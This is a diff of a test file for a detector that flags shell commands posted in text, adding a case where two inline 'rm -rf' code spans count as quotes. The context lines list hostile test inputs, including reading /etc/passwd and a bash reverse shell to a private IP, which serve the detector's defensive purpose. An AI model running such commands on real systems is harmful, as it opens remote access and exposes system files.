@@ -297,6 +297,9 @@ test('commands in a Markdown code block of a post count one paranoia level highe
     assert.deepEqual(fs.filter((f) => f.paranoia === 1).map((f) => f.ruleId), [], JSON.stringify(post));
     assert.ok(fs.some((f) => f.paranoia === 2), `still found at paranoia 2: ${JSON.stringify(post)}`);
   }
+  // two inline code spans in a sentence are two quotes, not a chain of commands
+  const nit = 'One nit: `rm -rf ./build` would be safer than `rm -rf build/*` in the script.';
+  assert.deepEqual(run(nit, BODY).filter((f) => f.paranoia === 1).map((f) => f.ruleId), []);
   // no prose around the block, a fence left open, a line that is not indented, a reverse shell: as before
   for (const value of ['```\nid\n```', 'x\n```\ncat /etc/passwd\n```', 'Hello,\nchmod 755 run.sh\nthanks',
     'Please run this:\n```\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```\nthanks a lot', 'Please run this now\n```\nchmod 755 run.sh']) {
